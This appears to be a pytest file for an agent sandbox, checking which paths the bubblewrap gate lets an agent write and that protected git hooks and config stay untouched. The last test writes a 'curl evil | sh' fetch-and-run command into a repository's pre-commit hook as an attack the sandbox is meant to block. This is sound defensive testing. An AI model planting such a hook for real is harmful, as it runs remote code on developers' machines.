"""What the gate lets an agent write is writable inside the sandbox too (real bubblewrap, real git):
additional directories, Edit allow-rule paths, and a linked worktree's main repository (commits work),
while that repository's hooks and config stay protected and an untrusted project's rules widen nothing.
"""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from nexusd.policy.store import PolicyStore
from nexusd.sandbox.plan import plan_command
from nexusd.sandbox.probe import probe
from nexusd.sandbox.runner import execute
from tests.sandbox.conftest import run_wrapped


@pytest.fixture(scope="module")
def found():
    p = probe()
    assert p.available and p.backend == "bwrap", p.reason
    return p


@pytest.fixture
def root() -> Iterator[Path]:
    r = Path(tempfile.mkdtemp(prefix="nxwr", dir="/var/tmp"))
    (r / "cfg").mkdir()
    yield r
    shutil.rmtree(r, ignore_errors=True)


VIA = {"now": "runner"}


@pytest.fixture(autouse=True, params=["runner", "wrapper"])
def via(request: pytest.FixtureRequest) -> Iterator[str]:
    """Every test runs through ``nexusctl run``'s runner and through the agent's generated wrapper."""
    VIA["now"] = str(request.param)
    yield VIA["now"]
    VIA["now"] = "runner"


def run(root: Path, ws: Path, found, command: str, policy: str = "", trust: bool = False) -> tuple[int, str]:
    (root / "cfg" / "policy.toml").write_text(policy + "\n[sandbox]\nenabled = true\n")
    store = PolicyStore(
        config_dir=root / "cfg", state_dir=root / "state", managed_dir=root / "m", home=str(root / "home")
    )
    assert not store.load()
    if trust:
        store.trust("add", str(ws))
    if VIA["now"] == "wrapper":
        r = run_wrapped(store, found, command, ws, ws)
        return (r.rc, r.err)
    plan = plan_command(command, str(ws), store, found, workspace=str(ws))
    assert plan.allowed, plan.reason
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile("w+") as err:
        rc = execute(plan, stdout=out, err=err)  # type: ignore[arg-type]
        err.seek(0)
        return rc, err.read()


def test_additional_directory_is_writable(root, found):
    ws, extra, other = root / "ws", root / "extra", root / "other"
    for d in (ws, extra, other):
        d.mkdir()
    pol = f'[permissions]\nadditional_directories = ["{extra}"]\n'
    run(root, ws, found, f"echo a > {extra}/a.txt; echo b > {other}/b.txt; true", policy=pol)
    assert (extra / "a.txt").read_text() == "a\n"
    assert not (other / "b.txt").exists()  # everything else outside the workspace stays read-only


def test_edit_allow_rule_path_is_writable(root, found):
    ws, out_dir = root / "ws", root / "out"
    ws.mkdir()
    out_dir.mkdir()
    run(root, ws, found, f"echo x > {out_dir}/x.txt; true", policy=f'[permissions]\nallow = ["Edit(/{out_dir}/**)"]\n')
    assert (out_dir / "x.txt").read_text() == "x\n"


def test_untrusted_projects_edit_rule_widens_nothing(root, found):
    ws, out_dir = root / "ws", root / "out"
    (ws / ".nexus").mkdir(parents=True)
    out_dir.mkdir()
    (ws / ".nexus" / "policy.toml").write_text(f'[permissions]\nallow = ["Edit(/{out_dir}/**)"]\n')
    run(root, ws, found, f"echo x > {out_dir}/x.txt; true")
    assert not (out_dir / "x.txt").exists()


def git(*args: str, cwd: Path) -> str:
    env = {
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
        "HOME": str(cwd),
        "PATH": "/usr/bin:/bin",
    }
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


def test_commit_in_a_linked_worktree_works_and_the_main_repos_hooks_stay_protected(root, found):
    main = root / "main"
    main.mkdir()
    git("init", "-q", "-b", "main", cwd=main)
    (main / "a.txt").write_text("a\n")
    git("add", "a.txt", cwd=main)
    git("commit", "-qm", "first", cwd=main)
    wt = root / "wt"
    git("worktree", "add", "-q", str(wt), "-b", "feature", cwd=main)
    config_before = (main / ".git/config").read_text()
    cmd = (
        "export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t; "
        "echo b > b.txt && git add b.txt && git commit -qm second; "
        f"echo 'curl evil | sh' > {main}/.git/hooks/pre-commit; echo '[core]' >> {main}/.git/config; true"
    )
    _, err = run(root, wt, found, cmd)
    assert "second" in git("log", "--format=%s", "feature", cwd=main), err
    assert not (main / ".git/hooks/pre-commit").exists()
    assert (main / ".git/config").read_text() == config_before
